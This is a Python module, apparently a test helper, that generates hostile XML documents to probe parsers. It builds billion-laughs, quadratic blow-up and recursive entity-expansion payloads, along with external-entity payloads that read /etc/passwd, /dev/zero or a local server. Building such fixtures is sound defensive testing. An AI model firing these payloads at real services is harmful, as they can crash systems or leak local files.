"""Document types that would fill a reader's memory, or have it read what lies elsewhere: for any format in XML."""

from __future__ import annotations


def entities(count: int, copies: int) -> str:
    """Return a document type whose last entity is the first one, copied `copies` ** `count` times."""
    made = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * copies}">' for n in range(1, count + 1))
    return f'<!DOCTYPE r [<!ENTITY e0 "lol">{made}]>'


def attacks(document: str) -> dict[str, str]:
    """Return documents by the name of what they try; `document` has {} where text is allowed in an attribute."""
    plain = document.format("x")
    return {
        "billion laughs": entities(9, 10) + document.format("&e9;"),
        "deep laughs": entities(60, 2) + document.format("&e60;"),
        "single quotes": entities(9, 10).replace('"', "'") + document.format("&e9;"),
        "quadratic blow-up": f'<!DOCTYPE r [<!ENTITY a "{"x" * 900}">]>' + document.format("&a;" * 300_000),
        "entity of itself": '<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]>' + document.format("&a;"),
        "outside file": '<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + plain,
        "outside device": '<!DOCTYPE r [<!ENTITY a SYSTEM "/dev/zero">]>' + plain,
        "outside server": '<!DOCTYPE r [<!ENTITY a SYSTEM "http://127.0.0.1:1/">]>' + plain,
        "public entity": '<!DOCTYPE r [<!ENTITY a PUBLIC "-//X" "file:///x">]>' + plain,
        "parameter entity": "<!DOCTYPE r [<!ENTITY % a \"<!ENTITY b 'c'>\">%a;]>" + plain,
        "outside parameter": '<!DOCTYPE r [<!ENTITY % a SYSTEM "file:///x">%a;]>' + plain,
    }
